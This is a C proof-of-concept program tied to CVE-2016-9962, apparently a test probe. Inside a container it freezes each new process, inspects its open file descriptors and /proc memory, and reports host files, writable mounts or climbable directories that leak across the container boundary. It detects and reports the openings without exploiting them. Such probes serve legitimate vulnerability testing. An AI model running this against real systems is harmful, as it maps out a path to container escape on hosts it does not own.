/*
 * Stops every other process that appears, as soon as it is seen, looks at where its descriptors lead, and lets it go on. Says
 * which of them lead to a directory that one can go up from or write to, or to a file that is not the container's own. With
 * an argument: also, whether the memory of one that is not busybox could be opened. [CVE-2016-9962]
 * usage: steal-fd [memory]
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

static void look_at(const char *path, const char *name, dev_t own) {
	char up[300], link[4096];
	struct stat found, above;
	struct statvfs mount;
	ssize_t length = readlink(path, link, sizeof link - 1);
	if (length < 0 || stat(path, &found) != 0 || atoi(name) < 3) return;
	link[length] = 0;
	if (S_ISREG(found.st_mode) && found.st_dev != own) printf("file %s: %s\n", name, link);
	if (!S_ISDIR(found.st_mode)) return;
	snprintf(up, sizeof up, "%s/..", path);
	if (stat(up, &above) == 0 && (above.st_ino != found.st_ino || above.st_dev != found.st_dev)) printf("up from %s: %s\n", name, link);
	if (found.st_dev != own && statvfs(path, &mount) == 0 && !(mount.f_flag & ST_RDONLY)) printf("writable %s: %s\n", name, link);
}

static void look(int pid, dev_t own, int memory) {
	char path[300], link[4096];
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *fds = opendir(path);
	struct dirent *entry;
	while (fds != NULL && (entry = readdir(fds)) != NULL) {
		snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, entry->d_name);
		look_at(path, entry->d_name, own);
	}
	if (fds != NULL) closedir(fds);
	if (!memory) return;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t length = readlink(path, link, sizeof link - 1);
	link[length < 0 ? 0 : length] = 0;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int opened = open(path, O_RDWR);
	if (opened >= 0 && strstr(link, "busybox") == NULL) printf("memory of %s\n", link);
	if (opened >= 0) close(opened);
}

int main(int argc, char **argv) {
	(void)argv;
	struct stat root;
	static char seen[1 << 22];
	setvbuf(stdout, NULL, _IONBF, 0);
	if (stat("/", &root) != 0) return 1;
	printf("ready\n");
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(processes)) != NULL) {
			int pid = atoi(entry->d_name);
			if (pid < 2 || pid == getpid() || seen[pid % sizeof seen]) continue;
			if (kill(pid, SIGSTOP) != 0) continue;
			seen[pid % sizeof seen] = 1;
			printf("caught\n");
			for (int i = 0; i < 20; i++) look(pid, root.st_dev, argc > 1);
			kill(pid, SIGCONT);
		}
		closedir(processes);
	}
}
